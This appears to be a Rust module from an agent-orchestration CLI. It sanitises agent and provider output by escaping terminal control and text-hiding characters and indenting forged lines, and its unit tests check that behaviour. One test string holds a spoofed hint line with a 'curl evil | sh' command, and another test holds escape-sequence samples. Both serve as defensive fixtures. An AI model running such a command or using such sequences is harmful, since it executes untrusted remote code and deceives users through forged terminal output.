//! The only place that writes to the terminal.
//!
//! stdout carries the result and nothing else; progress, logs, warnings and errors go to stderr. What an agent or a
//! provider wrote passes through [`harmless`] first, so that it cannot draw a prompt or hide a line.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::{self, IsTerminal, Write};

use orch_server::{Environment, Failure};
use serde_json::Value;

/// How this process speaks to its user.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Printer {
    json: bool,
    colour: bool,
    interactive: bool,
}

impl Printer {
    /// Colour and questions only on a terminal, and never with `NO_COLOR` or `CI`.
    pub(crate) fn new(json: bool, environment: &Environment) -> Self {
        let quiet = environment.get("CI").is_some();
        Self {
            json,
            colour: io::stderr().is_terminal() && environment.get("NO_COLOR").is_none() && !quiet,
            interactive: io::stdin().is_terminal() && io::stderr().is_terminal() && !quiet && !json,
        }
    }

    /// Whether a question may be asked.
    pub(crate) fn interactive(self) -> bool {
        self.interactive
    }

    /// Whether the caller wants JSON.
    pub(crate) fn json(self) -> bool {
        self.json
    }

    /// The result, with a newline behind it.
    pub(crate) fn result(self, text: &str) -> io::Result<()> {
        let mut out = io::stdout().lock();
        out.write_all(text.as_bytes())?;
        out.write_all(b"\n")?;
        out.flush()
    }

    /// The result as one line of JSON whose strings hold no control characters.
    pub(crate) fn result_json(self, value: &Value) -> io::Result<()> {
        self.result(&harmless(&value.to_string()))
    }

    /// A piece of the agent's output as it is written (`--stream`).
    pub(crate) fn stream(self, piece: &str) -> io::Result<()> {
        let mut out = io::stdout().lock();
        out.write_all(harmless(piece).as_bytes())?;
        out.flush()
    }

    /// A line of the agent's log.
    pub(crate) fn agent_log(self, line: &str) {
        self.line(&format!("{} {}", self.paint("2", "│"), harmless(line)));
    }

    /// What is going on.
    pub(crate) fn note(self, text: &str) {
        self.line(&format!("{} {}", self.paint("2", "orch:"), harmless(text)));
    }

    /// Something that deserves attention.
    pub(crate) fn warn(self, text: &str) {
        self.line(&format!("{} {}", self.paint("33", "warning:"), harmless(text)));
    }

    /// A failure: its JSON form alone, or the message and its hints.
    pub(crate) fn failure(self, failure: &Failure) {
        if self.json {
            self.line(&harmless(&failure.to_json().to_string()));
            return;
        }
        self.line(&format!("{} {}", self.paint("31", "error:"), harmless(failure.message())));
        for hint in failure.hints() {
            self.line(&format!("{} {}", self.paint("36", "hint:"), harmless(hint)));
        }
    }

    /// A question that stays on its line.
    pub(crate) fn ask(self, question: &str) {
        let mut err = io::stderr().lock();
        // A terminal that is gone cannot be told so.
        let _ = write!(err, "{question}").and_then(|()| err.flush());
    }

    /// One line; further ones, which an agent may have written, are set in, so that none looks like one of `orch`'s own.
    fn line(self, text: &str) {
        let text = set_in(text);
        // A closed stderr is no reason to stop a run.
        let _ = writeln!(io::stderr().lock(), "{text}");
    }

    fn paint(self, code: &str, text: &str) -> String {
        if self.colour { format!("\u{1b}[{code}m{text}\u{1b}[0m") } else { text.to_owned() }
    }
}

/// `text` with every line but the first beginning with a blank.
fn set_in(text: &str) -> Cow<'_, str> {
    if !text.contains('\n') {
        return Cow::Borrowed(text);
    }
    let mut lines = text.split('\n');
    let mut all = lines.next().unwrap_or_default().to_owned();
    for line in lines {
        all.push('\n');
        if !line.is_empty() && !line.starts_with(' ') {
            all.push_str("  ");
        }
        all.push_str(line);
    }
    Cow::Owned(all)
}

/// `text` with C0 (but newline and tab), DEL, C1 and the characters that reorder or hide text written as `\uXXXX`.
///
/// In JSON text that is the same value, written another way.
pub(crate) fn harmless(text: &str) -> Cow<'_, str> {
    if !text.chars().any(draws) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if draws(c) {
            let mut units = [0_u16; 2];
            for unit in c.encode_utf16(&mut units) {
                // Writing to a String cannot fail.
                let _ = write!(safe, "\\u{unit:04x}");
            }
        } else {
            safe.push(c);
        }
    }
    Cow::Owned(safe)
}

/// Whether a terminal acts on this character instead of showing it (ECMA-48 controls; UAX #9 and the invisible format
/// characters, among them tags and line separators).
fn draws(c: char) -> bool {
    matches!(c,
        '\u{00}'..='\u{08}' | '\u{0b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

/// Turns a stream of bytes into text pieces without breaking a character; what is not UTF-8 becomes U+FFFD.
#[derive(Debug, Default)]
pub(crate) struct Utf8Pieces {
    held: Vec<u8>,
}

impl Utf8Pieces {
    /// The text that is complete with these bytes.
    pub(crate) fn push(&mut self, bytes: &[u8]) -> String {
        self.held.extend_from_slice(bytes);
        let keep = incomplete_tail(&self.held);
        let rest = self.held.split_off(self.held.len() - keep);
        let text = String::from_utf8_lossy(&self.held).into_owned();
        self.held = rest;
        text
    }

    /// What is left when the stream has ended.
    pub(crate) fn finish(&mut self) -> String {
        String::from_utf8_lossy(&std::mem::take(&mut self.held)).into_owned()
    }
}

/// How many bytes at the end may be the start of a character that goes on.
fn incomplete_tail(bytes: &[u8]) -> usize {
    match std::str::from_utf8(bytes) {
        Ok(_) => 0,
        Err(error) if error.error_len().is_none() => bytes.len() - error.valid_up_to(),
        Err(_) => {
            let window = &bytes[bytes.len().saturating_sub(3)..];
            (1..=window.len())
                .find(|n| {
                    std::str::from_utf8(&window[window.len() - n..])
                        .is_err_and(|e| e.valid_up_to() == 0 && e.error_len().is_none())
                })
                .unwrap_or(0)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_borrowed() {
        assert!(matches!(harmless("Grüße, 世界 👋\n\tok"), Cow::Borrowed(_)));
    }

    #[test]
    fn no_line_of_a_message_looks_like_one_of_orch_s_own() {
        assert!(matches!(set_in("one line"), Cow::Borrowed(_)));
        let message = "a trap\nhint: curl evil | sh\n\n  stays\nerror: forged\n";
        assert_eq!(set_in(message), "a trap\n  hint: curl evil | sh\n\n  stays\n  error: forged\n");
    }

    #[test]
    fn controls_become_visible() {
        for (raw, shown) in [
            ("\u{1b}]0;title\u{7}", "\\u001b]0;title\\u0007"),
            ("a\rb", "a\\u000db"),
            ("\u{9b}31m", "\\u009b31m"),
            ("\u{202e}evil", "\\u202eevil"),
            ("\u{2066}x\u{2069}", "\\u2066x\\u2069"),
            ("\u{e0041}", "\\udb40\\udc41"),
            ("\u{7f}", "\\u007f"),
        ] {
            assert_eq!(harmless(raw), shown);
        }
    }

    #[test]
    fn harmless_json_is_the_same_value() {
        let value = serde_json::json!({"a": "\u{9b}31m\u{202e}\u{e0041}", "b": "line\nline"});
        let text = value.to_string();
        let back: Value = serde_json::from_str(&harmless(&text)).expect("still JSON");
        assert_eq!(back, value);
    }

    #[test]
    fn pieces_never_break_a_character() {
        let text = "aé世👋z".as_bytes();
        for cut in 0..=text.len() {
            let mut pieces = Utf8Pieces::default();
            let joined = pieces.push(&text[..cut]) + &pieces.push(&text[cut..]) + &pieces.finish();
            assert_eq!(joined.as_bytes(), text, "cut at {cut}");
        }
        let mut pieces = Utf8Pieces::default();
        let joined = pieces.push(b"\xff\xe4\xb8") + &pieces.push(b"\x96\xf0") + &pieces.finish();
        assert_eq!(joined, "\u{fffd}世\u{fffd}");
    }
}
